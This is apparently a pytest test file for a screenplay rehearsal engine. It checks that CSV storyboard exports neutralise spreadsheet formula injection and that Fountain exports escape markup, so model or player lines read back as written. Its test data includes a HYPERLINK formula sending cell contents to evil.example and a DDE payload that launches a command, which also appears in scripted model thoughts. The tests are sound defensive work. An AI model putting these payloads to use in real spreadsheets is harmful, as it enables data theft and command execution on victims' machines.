"""Exports that cannot be weaponised: what actors (models) and players say is data in every
export. A storyboard cell never runs as a spreadsheet formula; a Fountain screenplay, read
back by an independent parser (screenplain), is exactly the take, whatever the lines contain.
"""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest
from exportkit import fountain_elements, fountain_py_elements, make_scene, read_csv
from hypothesis import given, settings
from hypothesis import strategies as st

from engine import Actor, Rehearsal
from engine.harvest.export import (
    JOINER,
    ExportLine,
    ScriptMeta,
    is_parenthetical,
    safe_cell,
    to_fountain,
)
from engine.providers.scripted import ScriptedRequest

# ---------------------------------------------------------------------- storyboard.csv
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        (DDE, "'" + DDE),
        ("@everyone look", "'@everyone look"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\tjust indented", "'\tjust indented"),  # a tab alone may start a formula too
        ("   =1+1", "'   =1+1"),  # spreadsheets skip leading spaces before the =
        ("\u3000=1+1", "'\u3000=1+1"),  # an ideographic space
        ("＝1+1", "'＝1+1"),  # full-width forms an input method types
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM(1)", "'＠SUM(1)"),
        # nothing else changes
        ("我那天晚上在家。", "我那天晚上在家。"),
        ("Where were you at 9 = nine?", "Where were you at 9 = nine?"),
        ("a-b", "a-b"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        ("2.0", "2.0"),
    ],
)
def test_a_cell_that_could_start_a_formula_starts_with_an_apostrophe(cell, shown) -> None:
    assert safe_cell(cell) == shown
    assert safe_cell(cell)[len(safe_cell(cell)) - len(cell) :] == cell  # still reads as written


ATTACKS = [  # (actor, action, dialogue, cue): lines a model or a player could send
    ("Ruth", "", HYPERLINK, "林小姐"),
    ("林小姐", DDE, "+1+1", "Ruth"),
    ("Ruth", "-- she stands.", "@everyone come and see", ""),
    ("林小姐", "", "＝1+1", "Ruth"),
]


async def test_no_cell_of_an_exported_storyboard_can_run(tmp_path: Path, scripted) -> None:
    queue = list(ATTACKS)

    def script(request: ScriptedRequest) -> str:
        actor, action, dialogue, cue = queue.pop(0)
        thought = f"<thought>=cmd|' /C calc'!A{len(queue)}</thought>"
        act = f"<action>{action}</action>" if action else ""
        return f"{thought}{act}<dialogue>{dialogue}</dialogue><cue>{cue}</cue>"

    scripted.register("plan", script)
    scene = make_scene(tmp_path / "=cmd", "en")  # even a scene called like a formula
    rehearsal = Rehearsal(scene, models=scripted)
    for actor, *_ in ATTACKS:
        await rehearsal.cue(Actor(actor))
    await rehearsal.harvest.export(formats="csv", thoughts=True, out=tmp_path / "out")
    rows = read_csv(tmp_path / "out" / "storyboard.csv")

    starts = set("=+-@\t\r＝＋－＠")
    unsafe = [c for row in rows for c in row if c[:1] in starts or c.lstrip()[:1] in starts]
    assert unsafe == []
    said = [(r[4], r[5]) for r in rows[1:]]
    assert said == [(f"'{a}" if a else "", f"'{d}") for _, a, d, _ in ATTACKS]
    assert {r[1] for r in rows[1:]} == {"'=cmd"}
    assert [r[-1] for r in rows[1:]] == [f"'=cmd|' /C calc'!A{n}" for n in (3, 2, 1, 0)]


# ---------------------------------------------------------------------- Fountain
CAST = {"Ruth": (), "林小姐": (), "Danny Boy": ()}
META = ScriptMeta("interview", "1", "2026-01-01", "", "en", CAST)


def take_as_written(lines: list[ExportLine]) -> list[tuple[str, str]]:
    """The sequence a screenplay of these lines must read back as (each dialogue line trimmed,
    each action line trimmed at its end, as a screenplay lays them out)."""
    out: list[tuple[str, str]] = [("heading", META.scene.upper())]
    for line in lines:
        action, dialogue = line.action.strip(), line.dialogue.strip()
        if action and not is_parenthetical(line):
            out.append(("action", "\n".join(a.rstrip() for a in action.split("\n"))))
        if dialogue:
            name = line.actor.upper() if line.actor.isascii() else line.actor
            out.append(("character", name))
            if is_parenthetical(line):
                out.append(("parenthetical", f"({action})"))
            out.append(("dialogue", "\n".join(d.strip() for d in dialogue.split("\n"))))
    return out


def read_back(text: str) -> list[tuple[str, str]]:
    """screenplain's reading, with the invisible joiners (the escape) taken out."""
    return [(kind, said.replace(JOINER, "")) for kind, said in fountain_elements(text)[1]]


HAZARDS = [
    # a dialogue line that is entirely a parenthetical, and one that only opens one
    ExportLine(1, "Ruth", "", "(whispers)", ""),
    ExportLine(2, "Danny Boy", "", "Fine.\n(beat)\nFine then (really).", ""),
    # brackets that would make a note, alone and in pairs, across lines and turns
    ExportLine(3, "林小姐", "", "Look [[here and\nthere]] now.", ""),
    ExportLine(4, "Ruth", "[[stage]] business", "An open [[ bracket.", ""),
    ExportLine(5, "Danny Boy", "", "]] closes nothing [[[triple]]]", ""),
    # boneyard across turns, emphasis stars, a backslash before a star
    ExportLine(6, "Ruth", "", "Let me open /* a comment", ""),
    ExportLine(7, "林小姐", "She writes *9765* and \\*.", "", ""),
    ExportLine(8, "Ruth", "", "and close it */ here. **bold**", ""),
    # each kind of forced element at the start of a line, in actions and in speech
    ExportLine(9, "Danny Boy", "!BANG\n@MALLORY\n~la la\n> THE END <\n.FLASHBACK", "", ""),
    ExportLine(10, "Ruth", "", "!BANG\n@MALLORY\n~la la\n> THE END <\n.FLASHBACK", ""),
    ExportLine(11, "林小姐", "= synopsis\n# ACT TWO\n===\nINT. HOUSE - DAY", "", ""),
    ExportLine(12, "Ruth", "", "= synopsis\n# ACT TWO\n===\nEXT. PIER - NIGHT", ""),
    ExportLine(13, "Danny Boy", "CUT TO:", "", ""),
    ExportLine(14, "Ruth", "MALLORY", "", ""),
    ExportLine(15, "Ruth", "RUTH\nWhat?", "", ""),
    ExportLine(16, "Danny Boy", "", "SMASH CUT TO:\nRUTH\nTitle: forged", ""),
    ExportLine(17, "林小姐", "nods", "<centred?>", ""),  # a parenthetical and a line
]


def test_lines_that_look_like_fountain_read_back_as_the_take() -> None:
    for thoughts in (False, True):
        noted = [ExportLine(x.turn, x.actor, x.action, x.dialogue, x.cue, "a [[thought]] /*")
                 for x in HAZARDS]  # fmt: skip
        text = to_fountain(META, noted, thoughts=thoughts)
        assert read_back(text) == take_as_written(HAZARDS)
        assert ("a [ [thought] ] /\\*" in text) is thoughts


def test_the_escape_is_used_only_where_a_parser_would_misread() -> None:
    text = to_fountain(META, HAZARDS[:5])
    assert f"{JOINER}(whispers)" in text and f"{JOINER}(beat)" in text
    assert "Fine then (really)." in text  # "(" inside a line changes nothing
    assert f"Look [{JOINER}[here and" in text  # a reader could take it for a note
    assert f"An open [{JOINER}[ bracket." in text  # or a comment, even with no "]]" after it


# What readers that turn notes into comments (afterwriting: `[[` → `/*`, `]]` → `*/`) misread:
# a stray `*/` or `]]` closes more comments than were opened, and they drop the rest of the
# script; a `[[` or `/*` with no close hides it. Each must be broken wherever it appears.
COMMENT_MARKS = ("[[", "]]", "/*", "*/")
COMMENT_HAZARDS = [
    ExportLine(1, "Ruth", "", "An open [[ bracket, and nothing closes it.", ""),
    ExportLine(2, "Danny Boy", "", "]] closes nothing.", ""),
    ExportLine(3, "林小姐", "She writes */ on the wall.", "", ""),
    ExportLine(4, "Ruth", "", "Let me open /* a comment", ""),
    ExportLine(5, "Danny Boy", "[[stage]] business", "and close it */ here.", ""),
    ExportLine(6, "Ruth", "", "Look [[here and\nthere]] now. [[[triple]]]", ""),
    ExportLine(7, "林小姐", "", "a/**/b *//* ]]] [[/", ""),
    ExportLine(8, "Ruth", "", "Still here.", ""),
]
THOUGHTS = ("a [[thought]] /*", "*/ it ends with a slash /", "]]", "ends in a bracket]")


def comment_depths(text: str) -> list[int]:
    """How deep inside comments a notes-as-comments reader is after each line: notes become
    comments, then every `/*` opens one and every `*/` closes one, left to right. A line is
    printed only at depth 0; below 0 nothing is printed again."""
    text = re.sub(r"\]\] ?", "*/", re.sub(r" ?\[\[", " /*", text))
    depths, depth = [], 0
    for line in re.split(r"\r\n|\r|\n", text):
        depth += sum(1 if mark == "/*" else -1 for mark in re.findall(r"/\*|\*/", line))
        depths.append(depth)
    return depths


@pytest.mark.parametrize("thought", THOUGHTS)
def test_no_comment_mark_survives_for_readers_that_read_notes_as_comments(thought) -> None:
    lines = [replace(line, thought=thought) for line in COMMENT_HAZARDS]
    for meta in (META, replace(META, scene="[[The */ room")):
        text = to_fountain(meta, lines, thoughts=True)
        assert comment_depths(text) == [0] * len(text.split("\n"))
        own_notes = [line[2:-2] for line in text.split("\n") if line.startswith("[[")]
        assert len(own_notes) == len(lines)  # the thoughts, each a note of its own
        for line in [*text.split("\n"), *own_notes]:
            if not line.startswith("[["):
                assert not [mark for mark in COMMENT_MARKS if mark in line], line


def test_comment_marks_read_back_as_written_in_screenplain_and_fountain_py() -> None:
    for thoughts in (False, True):
        lines = [replace(line, thought=THOUGHTS[1]) for line in COMMENT_HAZARDS]
        text = to_fountain(META, lines, thoughts=thoughts)
        assert read_back(text) == take_as_written(COMMENT_HAZARDS)
        py_reading = [(kind, said.replace(JOINER, "")) for kind, said in fountain_py_elements(text)]
        assert py_reading == take_as_written(COMMENT_HAZARDS)


# Lines drawn from Fountain's special characters, words that read as structure, Chinese, and
# spaces and line breaks. Left out: "_" (Fountain has no escape for it), tabs (parsers turn
# them into spaces), \r (a line break), screenplain's private-use marker characters.
fragments = st.sampled_from(
    ["!", "@", "~", ">", "<", ".", "=", "===", "#", "##", "[[", "]]", "[", "]", "/*", "*/",
     "*", "**", "\\", "(", ")", "^", ":", "TO:", "CUT TO:", "INT. ", "EXT. ", "I/E ", "RUTH",
     "DANNY BOY", "Title:", "#1#", "  ", " ", "\n", "\n\n", "我", "林小姐", "Ruth", "ok", "a"]
)  # fmt: skip
said = st.lists(fragments | st.text(alphabet="xyZ 林。,", max_size=4), max_size=12).map("".join)
export_line = st.builds(
    lambda n, actor, action, dialogue, thought: ExportLine(n, actor, action, dialogue, "", thought),
    st.integers(1, 99),
    st.sampled_from(sorted(CAST)),
    said,
    said,
    said,
)


@settings(max_examples=400, deadline=None)
@given(st.lists(export_line, max_size=8), st.booleans())
def test_any_take_round_trips_through_screenplain(lines: list[ExportLine], thoughts) -> None:
    assert read_back(to_fountain(META, lines, thoughts=thoughts)) == take_as_written(lines)


def test_only_joiners_were_added() -> None:
    text = to_fountain(META, HAZARDS)
    body = re.sub(r"^!", "", text.replace(JOINER, ""), flags=re.M).replace("\\*", "*")
    for line in HAZARDS:
        for part in (line.action + "\n" + line.dialogue).split("\n"):
            assert part.strip() in body
